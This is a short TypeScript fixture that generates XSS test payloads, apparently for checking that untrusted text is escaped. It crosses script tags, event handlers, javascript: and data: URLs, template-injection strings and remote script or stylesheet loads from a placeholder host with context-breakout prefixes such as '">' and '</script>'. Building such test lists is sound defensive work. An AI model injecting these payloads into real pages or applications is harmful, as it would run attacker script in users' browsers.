// Texts that would run as script, load something or break out of their place, if any page took them for more than text. What runs calls `fire`.

/** What an attacker wants to have on the page. */
const harms = [
  '<script>fire()</script>',
  '<script src=//x.test/a.js></script>',
  '<img src=x onerror=fire()>',
  '<svg onload=fire()>',
  '<svg><animate onbegin=fire() attributeName=x>',
  '<body onload=fire()>',
  '<iframe srcdoc="<script>parent.fire()</script>">',
  '<iframe src=javascript:fire()>',
  '<a href=javascript:fire()>x</a>',
  '<math href=javascript:fire()>x',
  '<details open ontoggle=fire()>',
  '<input autofocus onfocus=fire()>',
  '<video><source onerror=fire()>',
  '<object data=javascript:fire()>',
  '<embed src=javascript:fire()>',
  '<base href=//x.test/>',
  '<meta http-equiv=refresh content=0;url=//x.test>',
  '<link rel=stylesheet href=//x.test/a.css>',
  '<style>@import "//x.test/a.css"</style>',
  '<form action=//x.test><button>x',
  'javascript:fire()',
  'data:text/html,<script>fire()</script>',
  '#{fire()}',
  '{{constructor.constructor("fire()")()}}',
  '"+fire()+"',
]

/** Where the text may stand, and what would lead out of there. */
const ways = [
  '',
  '">',
  "'>",
  '</script>',
  '</title>',
  '--></textarea>',
  ']]>',
  '" autofocus onfocus=fire() x="',
]

/** All of them, each once; none is longer than a name may be. */
export const payloads: readonly string[] = ways.flatMap((way) => harms.map((harm) => way + harm))
